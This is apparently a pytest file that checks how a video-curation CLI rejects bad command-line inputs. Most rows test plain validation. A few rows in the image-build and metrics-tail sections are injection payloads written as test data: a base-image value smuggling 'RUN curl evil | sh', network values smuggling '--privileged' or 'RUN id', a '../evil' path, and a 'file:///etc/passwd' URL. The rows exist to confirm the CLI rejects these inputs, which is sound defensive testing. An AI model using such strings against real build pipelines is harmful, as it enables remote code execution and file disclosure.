"""A table of bad inputs, one real `curate` command line each (in-process `main.run`).

For every row: the exit code from the table in `cosmos_curate.cli.errors` (2: rejected
before anything started), exactly one stderr line starting `error:` that names the option,
file or port, no traceback, nothing created in the working folders, no process left.
A few rows run as subprocesses too, as a user's shell runs them.
"""

from __future__ import annotations

import contextlib
import io
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import attrs
import psutil
import pytest
from tests.support import curate

from cosmos_curate.cli.main import run
from cosmos_curate.models.tiny_random_gpt2 import save_tiny_gpt2


@attrs.frozen
class Row:
    """One bad input: the arguments (with placeholders), what the error line must contain."""

    id: str
    args: tuple[str, ...]
    names: tuple[str, ...]
    code: int = 2
    env: tuple[tuple[str, str], ...] = ()


HW = ("pipeline", "run", "hello-world")
IMG = ("image", "build", "--envs", "transformers", "--dry-run")
CLS = ("cluster", "start", "--state-file", "{tmp}/state.json")
K8S = ("k8s", "render")
LAUNCH = ("local", "launch")
ROWS = [
    # markup in user text is printed literally
    Row("markup-name", ("pipeline", "run", "x[red]y"), ("x[red]y",)),
    Row("markup-close", ("pipeline", "run", "x[/]y"), ("x[/]y",)),
    Row("emoji-name", ("pipeline", "run", ":smile:"), (":smile:",)),
    Row("unknown-command", ("nosuch",), ("nosuch",)),
    Row("unknown-option", (*HW, "--bogus"), ("--bogus",)),
    # numbers: negative, inf, nan, not a number
    Row("cpus-negative", (*HW, "--num-cpus", "-1"), ("--num-cpus",)),
    Row("cpus-inf", (*HW, "--num-cpus", "inf"), ("--num-cpus",)),
    Row("cpus-nan", (*HW, "--num-cpus", "nan"), ("--num-cpus",)),
    Row("cpus-text", (*HW, "--num-cpus", "abc"), ("--num-cpus",)),
    Row("gpus-negative", (*HW, "--num-gpus", "-0.5"), ("--num-gpus",)),
    Row("gpus-inf", (*HW, "--num-gpus", "inf"), ("--num-gpus",)),
    Row("store-fraction-high", (*HW, "--object-store-fraction", "1.5"), ("object_store_fraction",)),
    Row("tokens-zero", (*HW, "--max-new-tokens", "0"), ("--max-new-tokens",)),
    Row("tokens-text", (*HW, "--max-new-tokens", "many"), ("--max-new-tokens",)),
    Row("tokens-huge", (*HW, "--max-new-tokens", "100000"), ("--max-new-tokens",)),
    # ports
    Row("port-too-big", (*HW, "--metrics-port", "70000"), ("--metrics-port", "70000")),
    Row("port-negative", (*HW, "--metrics-port", "-1"), ("--metrics-port",)),
    Row("port-busy", (*HW, "--metrics-port", "{busy}"), ("--metrics-port", "{busy}")),
    Row("port-text", (*HW, "--metrics-port", "http"), ("--metrics-port",)),
    # paths
    Row("failures-is-dir", (*HW, "--failures-path", "{tmp}"), ("--failures-path",)),
    Row("failures-under-file", (*HW, "--failures-path", "{file}/x.jsonl"), ("--failures-path",)),
    Row("checkpoint-is-file", (*HW, "--checkpoint-dir", "{file}"), ("--checkpoint-dir",)),
    Row("checkpoint-under-file", (*HW, "--checkpoint-dir", "{file}/c"), ("--checkpoint-dir",)),
    Row("split-input-missing",
        ("pipeline", "run", "video-split", "--input-path", "{tmp}/novideos",
         "--output-path", "{tmp}/out"), ("--input-path", "{tmp}/novideos")),
    Row("split-output-is-file",
        ("pipeline", "run", "video-split", "--input-path", "{tmp}", "--output-path", "{file}"),
        ("--output-path",)),
    Row("split-aesthetic-reduction-unknown",
        ("pipeline", "run", "video-split", "--input-path", "{tmp}", "--output-path", "{tmp}/o",
         "--aesthetic-reduction", "median"), ("--aesthetic-reduction", "'min', 'mean'")),
    Row("split-motion-threshold-negative",
        ("pipeline", "run", "video-split", "--input-path", "{tmp}", "--output-path", "{tmp}/o",
         "--motion-global-mean-threshold", "-1"),
        ("--motion-global-mean-threshold", "greater than or equal to 0")),
    # video-split's content filters (#32): modes, ranges, category lists, backends
    *[Row(f"split-{name}", ("pipeline", "run", "video-split", "--input-path", "{tmp}",
                            "--output-path", "{tmp}/o", *args), names)
      for name, args, names in [
          ("text-filter-mode", ("--artificial-text-filter", "score-only"),
           ("--artificial-text-filter", "enable")),
          ("text-interval-zero", ("--artificial-text-frame-interval", "0"),
           ("--artificial-text-frame-interval",)),
          ("text-iou-above-one", ("--artificial-text-stability-iou-threshold", "1.5"),
           ("--artificial-text-stability-iou-threshold",)),
          ("vlm-threshold-above-one", ("--vlm-filter-rejection-threshold", "2"),
           ("--vlm-filter-rejection-threshold",)),
          ("vlm-categories-empty", ("--vlm-filter-categories", " , "),
           ("--vlm-filter-categories",)),
          ("vlm-openai-no-url", ("--vlm-filter", "enable", "--vlm-filter-endpoint", "openai"),
           ("--vlm-filter-endpoint", "--vlm-filter-openai-base-url")),
          ("classifier-unknown-type", ("--video-classifier-allow", "bananas"),
           ("--video-classifier-allow", "bananas")),
          ("classifier-custom-no-lists", ("--video-classifier-use-custom-categories",),
           ("--video-classifier-use-custom-categories", "--video-classifier-allow")),
          ("classifier-allow-file-missing", ("--video-classifier-allow-file", "{tmp}/no.txt"),
           ("--video-classifier-allow-file", "{tmp}/no.txt")),
      ]],
    Row("image-semantic-threshold-above-one",
        ("pipeline", "run", "image-annotate", "--input-path", "{tmp}", "--output-path", "{tmp}/o",
         "--semantic-filter", "--semantic-filter-rejection-threshold", "1.5"),
        ("--semantic-filter-rejection-threshold",)),
    # image-annotate's embedder: a registry model that embeds images, a served one's endpoint
    *[Row(f"image-embedding-{name}", ("pipeline", "run", "image-annotate", "--input-path",
                                      "{tmp}", "--output-path", "{tmp}/o", *args), names)
      for name, args, names in [
          ("model-unknown", ("--embedding-model-id", "no-such/embedder"),
           ("--embedding-model-id", "no-such/embedder", "clip_vit")),
          ("model-not-an-embedder", ("--embedding-model-id", "gpt2"),
           ("--embedding-model-id", "does not embed images")),
          ("openai-no-url", ("--embedding-algorithm", "openai"),
           ("--embedding-algorithm", "--embedding-openai-base-url")),
          ("openai-key-env-unset", ("--embedding-algorithm", "openai",
                                    "--embedding-openai-base-url", "http://127.0.0.1:9/v1",
                                    "--embedding-openai-api-key-env", "CURATE_NO_SUCH_KEY_VAR"),
           ("--embedding-openai-api-key-env", "CURATE_NO_SUCH_KEY_VAR")),
      ]],
    Row("openai-key-env-unset",
        ("pipeline", "run", "video-split", "--input-path", "{tmp}", "--output-path", "{tmp}/o",
         "--captioning-algorithm", "openai", "--openai-base-url", "http://127.0.0.1:9/v1",
         "--openai-api-key-env", "CURATE_NO_SUCH_KEY_VAR"), ("--openai-api-key-env",)),
    Row("resume-alone", (*HW, "--resume"), ("--resume", "--checkpoint-dir")),
    Row("config-unknown-key", (*HW, "--config", "{cfg_unknown}"),
        ("max-new-tokenz", "{cfg_unknown}")),
    Row("config-wrong-type", (*HW, "--config", "{cfg_type}"), ("max_new_tokens", "{cfg_type}")),
    Row("config-bool-for-int", (*HW, "--config", "{cfg_bool}"), ("num_cpus", "{cfg_bool}")),
    Row("config-missing", (*HW, "--config", "{tmp}/none.yaml"), ("{tmp}/none.yaml",)),
    Row("config-bad-toml", (*HW, "--config", "{cfg_toml}"), ("{cfg_toml}",)),
    Row("weights-missing", (*HW, "--num-cpus", "1"), ("curate model download",),
        env=(("CURATE_WEIGHTS_DIR", "{tmp}/noweights"),)),
    Row("bind-host", HW, ("CURATE_BIND_HOST",), env=(("CURATE_BIND_HOST", "banana"),)),
    # pipeline new: the name, the target folder
    Row("new-name-spaces", ("pipeline", "new", "my pipe"), ("my pipe",)),
    Row("new-name-path", ("pipeline", "new", "../evil"), ("../evil",)),
    Row("new-name-upper", ("pipeline", "new", "MyPipe"), ("MyPipe",)),
    Row("new-name-shipped", ("pipeline", "new", "hello-world"), ("hello-world",)),
    Row("new-name-shadows-module", ("pipeline", "new", "json"), ("json",)),
    Row("new-target-not-empty", ("pipeline", "new", "fresh-pipe", "--path", "{root}"),
        ("{root}",)),
    Row("new-target-is-file", ("pipeline", "new", "fresh-pipe", "--path", "{file}"),
        ("{file}",)),
    Row("ray-address-down", (*HW, "--ray-address", "127.0.0.1:{free}"), ("127.0.0.1:{free}",)),
    Row("ray-address-garbage", (*HW, "--ray-address", "not an address"), ("not an address",)),
    # model registry
    Row("registry-not-utf8", ("model", "list", "--models-config", "{nonutf8}"), ("{nonutf8}",)),
    Row("registry-missing", ("model", "list", "--models-config", "{tmp}/none.json"),
        ("{tmp}/none.json",)),
    Row("registry-bad-json", ("model", "list", "--models-config", "{badjson}"), ("{badjson}",)),
    Row("registry-is-dir", ("model", "list", "--models-config", "{tmp}"), ("--models-config",)),
    Row("model-unknown", ("model", "download", "--models", "nosuchmodel"), ("nosuchmodel",)),
    Row("models-empty", ("model", "download", "--models", ""), ("--models",)),
    Row("models-none", ("model", "download"), ("--models", "--all")),
    Row("models-and-all", ("model", "download", "--all", "--models", "gpt2"), ("--all",)),
    Row("models-only-commas", ("model", "download", "--models", " , "), ("--models",)),
    Row("weights-prefix-http", ("model", "download", "--models", "gpt2",
        "--model-weights-prefix", "http://127.0.0.1:{free}/w"),
        ("--model-weights-prefix", "http://127.0.0.1:{free}/w")),
    # image
    Row("env-bad-name", ("image", "build", "--envs", "../etc", "--dry-run"), ("../etc",)),
    Row("env-unknown", ("image", "build", "--envs", "nosuchenv", "--dry-run"), ("nosuchenv",)),
    Row("base-image-newline", (*IMG, "--base-image", "ubuntu\nRUN curl evil | sh"),
        ("--base-image",)),
    Row("base-image-upper", (*IMG, "--base-image", "Ubuntu"), ("--base-image",)),
    Row("base-image-space", (*IMG, "--base-image", "ubuntu 22.04"), ("--base-image",)),
    Row("image-tag-space", ("image", "build", "--envs", "transformers", "--image-tag", "a b"),
        ("--image-tag",)),
    Row("image-name-upper", ("image", "build", "--envs", "transformers", "--image-name", "A"),
        ("--image-name",)),
    Row("buildkit-no-dry-run", ("image", "build", "--envs", "transformers", "--buildkit"),
        ("--buildkit",)),
    Row("image-network-injection", (*IMG, "--network", "host --privileged"), ("--network",)),
    Row("image-network-newline", (*IMG, "--network", "bridge\nRUN id"), ("--network",)),
    Row("image-network-build", ("image", "build", "--envs", "transformers", "--network",
        "-host"), ("--network", "-host")),
    # cluster
    Row("cluster-cpus-negative", (*CLS, "--num-cpus", "-2"), ("--num-cpus",)),
    Row("cluster-cpus-nan", (*CLS, "--num-cpus", "nan"), ("--num-cpus",)),
    Row("cluster-workers-negative", (*CLS, "--workers", "-1"), ("--workers",)),
    Row("cluster-memory-inf", (*CLS, "--memory-gb", "inf"), ("--memory-gb",)),
    Row("cluster-port-range", (*CLS, "--port", "70000"), ("--port",)),
    Row("cluster-metrics-port-range", (*CLS, "--metrics-port", "99999"), ("--metrics-port",)),
    Row("cluster-auth", (*CLS, "--auth", "bogus"), ("bogus",)),
    Row("cluster-client-port-worker-range", (*CLS, "--client-port", "12000"), ("12000",)),
    Row("cluster-head-ip", (*CLS, "--head-ip", "127.0.0.2"), ("--head-ip",)),
    Row("cluster-open-no-auth", (*CLS, "--auth", "disabled"), ("--auth disabled", "10.11.12.13"),
        env=(("CURATE_BIND_HOST", "10.11.12.13"),)),
    Row("run-open-no-auth", (*HW, "--num-cpus", "1"), ("RAY_AUTH_MODE=disabled", "127.0.0.2"),
        env=(("CURATE_BIND_HOST", "127.0.0.2"), ("RAY_AUTH_MODE", "disabled"))),
    Row("slurm-no-auth", ("slurm", "submit", "--dry-run", "--auth", "disabled", "--", "true"),
        ("--auth disabled",)),
    Row("cluster-object-store", (*CLS, "--object-store-mb", "1"), ("--object-store-mb",)),
    Row("cluster-stop-none", ("cluster", "stop", "--state-file", "{tmp}/none.json"),
        ("{tmp}/none.json",)),
    Row("cluster-status-none", ("cluster", "status", "--state-file", "{tmp}/none.json"),
        ("{tmp}/none.json",)),
    # launchers: k8s render, slurm submit, local launch
    Row("k8s-cpus-huge", (*K8S, "-w", "cpus=1e309", "--", "true"), ("cpus", "1e309")),
    Row("k8s-cpus-nan", (*K8S, "-w", "cpus=nan", "--", "true"), ("cpus",)),
    Row("k8s-cpus-inf", (*K8S, "-w", "cpus=inf", "--", "true"), ("cpus",)),
    Row("k8s-cpus-negative", (*K8S, "-w", "cpus=-1", "--", "true"), ("cpus",)),
    Row("k8s-memory-huge", (*K8S, "-w", "memory=1e99999999", "--", "true"), ("memory",)),
    Row("k8s-head-cpus-huge", (*K8S, "--head-cpus", "1e18", "--", "true"), ("--head-cpus",)),
    Row("slurm-nodes-huge", ("slurm", "submit", "--nodes", "99999999999999999999", "--", "true"),
        ("--nodes",)),
    Row("slurm-gpus-huge", ("slurm", "submit", "--gpus-per-node", "100000", "--", "true"),
        ("--gpus-per-node",)),
    Row("slurm-time-huge", ("slurm", "submit", "--time", "99999999:00:00", "--", "true"),
        ("--time",)),
    Row("slurm-time-text", ("slurm", "submit", "--time", "abc", "--", "true"), ("--time",)),
    Row("slurm-time-field", ("slurm", "submit", "--time", "1-24:00", "--dry-run", "--", "true"),
        ("--time",)),
    # no sbatch on PATH: rejected before the runs folder's slurm/ is made (tree unchanged)
    Row("slurm-no-sbatch", ("slurm", "submit", "--", "true"), ("sbatch",),
        env=(("PATH", "{tmp}"),)),
    Row("launch-port-dry-run", (*LAUNCH, "--metrics-port", "70000", "--dry-run", "--", "true"),
        ("--metrics-port", "70000")),
    Row("launch-port-host", (*LAUNCH, "--metrics-port", "70000", "--network", "host", "--",
        "true"), ("--metrics-port", "70000")),
    # metrics tail
    Row("tail-file-url", ("metrics", "tail", "--once", "--url", "file:///etc/passwd"),
        ("--url",)),
    Row("tail-ftp-url", ("metrics", "tail", "--once", "--url", "ftp://127.0.0.1/m"), ("--url",)),
    Row("tail-ipv6-unclosed", ("metrics", "tail", "--once", "--url", "http://[::1"), ("--url",)),
    Row("tail-port-text", ("metrics", "tail", "--once", "--url", "http://h:abc/metrics"),
        ("--url",)),
    Row("tail-port-range", ("metrics", "tail", "--once", "--url", "http://127.0.0.1:99999/m"),
        ("--url",)),
    Row("tail-control-char", ("metrics", "tail", "--once", "--url", "http://h\x01/metrics"),
        ("--url",)),
    Row("tail-space", ("metrics", "tail", "--once", "--url", "http://h/me trics"), ("--url",)),
    Row("tail-no-host", ("metrics", "tail", "--once", "--url", "http://:9002/metrics"),
        ("--url",)),
    Row("tail-interval", ("metrics", "tail", "--interval", "0"), ("--interval",)),
    Row("tail-nothing-there", ("metrics", "tail", "--once", "--url",
        "http://127.0.0.1:{free}/metrics"), ("127.0.0.1:{free}",), code=1),
    # report: an output no file can be written to (root passes permission bits on /proc)
    Row("report-out-proc", ("report", "-o", "/proc/x.html"), ("-o /proc/x.html",)),
    # stage save and replay: names checked before Ray; replay reads only manifested saves
    Row("stage-save-unknown", (*HW, "--stage-save", "NoSuchStage"),
        ("NoSuchStage", "WordCountStage")),
    Row("stage-save-rate", (*HW, "--stage-save", "WordCountStage", "--stage-save-sample-rate",
        "0"), ("--stage-save-sample-rate",)),
    # profiles and traces: kinds checked, only http(s) endpoints, credentials never echoed
    Row("profile-unknown", (*HW, "--profile", "cpu,disk"), ("--profile disk", "memory")),
    Row("otlp-not-http", (*HW, "--otlp-endpoint", "ftp://user:pw@collector:4318"),
        ("--otlp-endpoint ftp://collector:4318", "http://")),
    Row("replay-no-manifest", ("stage", "replay", "{tmp}", "--stage", "WordCountStage"),
        ("MANIFEST.txt", "{tmp}")),
    Row("replay-no-run", ("stage", "replay", "nosuchrun", "--stage", "S"), ("nosuchrun",)),
    Row("replay-last-none", ("stage", "replay", "last", "--stage", "S"), ("--stage-save S",)),
    Row("replay-atol-nan", ("stage", "replay", "last", "--stage", "S", "--atol", "nan"),
        ("--atol",)),
]


@pytest.fixture(scope="module")
def places(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    """Files the rows point at, tiny GPT-2 weights (so nothing else stops a run), a busy port."""
    root = tmp_path_factory.mktemp("bad")
    (root / "afile").write_text("x")
    (root / "nonutf8.json").write_bytes(b"\xff\xfe{\x00")
    (root / "bad.json").write_text("{not json")
    (root / "unknown.yaml").write_text("max-new-tokenz: 5\n")
    (root / "type.yaml").write_text("max_new_tokens: many\n")
    (root / "bool.yaml").write_text("num_cpus: true\n")
    (root / "bad.toml").write_text("max_new_tokens = = 3\n")
    save_tiny_gpt2(root / "weights" / "openai-community" / "gpt2")
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        with socket.socket() as unused:
            unused.bind(("127.0.0.1", 0))
            free = unused.getsockname()[1]
        yield {
            "root": str(root),
            "file": str(root / "afile"),
            "nonutf8": str(root / "nonutf8.json"),
            "badjson": str(root / "bad.json"),
            "cfg_unknown": str(root / "unknown.yaml"),
            "cfg_type": str(root / "type.yaml"),
            "cfg_bool": str(root / "bool.yaml"),
            "cfg_toml": str(root / "bad.toml"),
            "busy": str(busy.getsockname()[1]),
            "free": str(free),
        }


def _fill(text: str, places: dict[str, str], tmp: Path) -> str:
    return text.format(tmp=tmp, **places)


def _tree(path: Path) -> set[str]:
    return {str(p) for p in path.rglob("*")}


def _processes() -> set[int]:
    return {p.pid for p in psutil.Process().children(recursive=True)}


@pytest.mark.parametrize("row", ROWS, ids=[r.id for r in ROWS])
def test_bad_input_is_one_error_line(
    row: Row, places: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Exit code from the table, one `error:` line naming the culprit, nothing left over."""
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    monkeypatch.setenv("CURATE_WEIGHTS_DIR", str(Path(places["root"]) / "weights"))
    monkeypatch.setenv("CURATE_RUNS_DIR", str(work / "runs"))
    monkeypatch.setenv("CURATE_CLUSTER_STATE", str(work / "cluster-state.json"))
    monkeypatch.delenv("RAY_ADDRESS", raising=False)
    monkeypatch.delenv("CURATE_BIND_HOST", raising=False)
    for key, value in row.env:
        monkeypatch.setenv(key, _fill(value, places, work))
    args = [_fill(a, places, work) for a in row.args]
    before_files, before_procs = _tree(tmp_path), _processes()
    stdout, stderr = io.StringIO(), io.StringIO()
    if "--ray-address" in row.args or any(
        key.startswith(("RAY_", "CURATE_BIND")) for key, _ in row.env
    ):
        # Its own process: under xdist this worker may hold the session's Ray, which the CLI
        # would use instead of the address, bind host or auth mode given.
        result = curate(*args, timeout=120)
        code = result.returncode
        stdout.write(result.stdout)
        stderr.write(result.stderr)
    else:
        with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
            code = run(args)
    errors = [line for line in stderr.getvalue().splitlines() if line.startswith("error:")]
    assert code == row.code, stderr.getvalue()
    assert len(errors) == 1, stderr.getvalue()
    for name in row.names:
        assert _fill(name, places, work) in errors[0]
    assert "Traceback" not in stderr.getvalue() + stdout.getvalue()
    assert _tree(tmp_path) == before_files, "a rejected command created files"
    assert _processes() <= before_procs, "a rejected command left a process"


SUBPROCESS_ROWS = ["markup-close", "cpus-nan", "port-busy", "base-image-newline", "unknown-option"]


@pytest.mark.parametrize("row_id", SUBPROCESS_ROWS)
def test_bad_input_in_a_real_shell(row_id: str, places: dict[str, str], tmp_path: Path) -> None:
    """The same rows as a separate `curate` process: same code and line, stdout empty."""
    row = next(r for r in ROWS if r.id == row_id)
    env = {
        **os.environ,
        "CURATE_RUNS_DIR": str(tmp_path / "runs"),
        "CURATE_WEIGHTS_DIR": str(Path(places["root"]) / "weights"),
        "COLUMNS": "60",
    }
    args = [_fill(a, places, tmp_path) for a in row.args]
    result = subprocess.run(
        [sys.executable, "-m", "cosmos_curate.cli.main", *args],
        capture_output=True, text=True, env=env, timeout=120, check=False,
    )  # fmt: skip
    assert result.returncode == row.code, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error:"), result.stderr
    assert result.stdout == ""
    assert not (tmp_path / "runs").exists()


DEBUG_ROWS = ["tail-port-text", "slurm-time-huge", "image-network-injection",
              "launch-port-dry-run", "registry-missing"]  # fmt: skip


@pytest.mark.parametrize("row_id", DEBUG_ROWS)
def test_debug_keeps_the_exit_code(
    row_id: str, places: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """CURATE_DEBUG=1 adds the traceback of a known error; the exit code is still the table's."""
    row = next(r for r in ROWS if r.id == row_id)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CURATE_RUNS_DIR", str(tmp_path / "runs"))
    monkeypatch.setenv("CURATE_DEBUG", "1")
    stderr = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(stderr):
        code = run([_fill(a, places, tmp_path) for a in row.args])
    lines = stderr.getvalue().splitlines()
    assert code == row.code, stderr.getvalue()
    assert lines[0].startswith("Traceback"), stderr.getvalue()
    assert lines[-1].startswith("error:"), stderr.getvalue()


def test_table_is_large_enough() -> None:
    """The issue asks for 40+ rows covering every class of bad input."""
    assert len(ROWS) >= 40
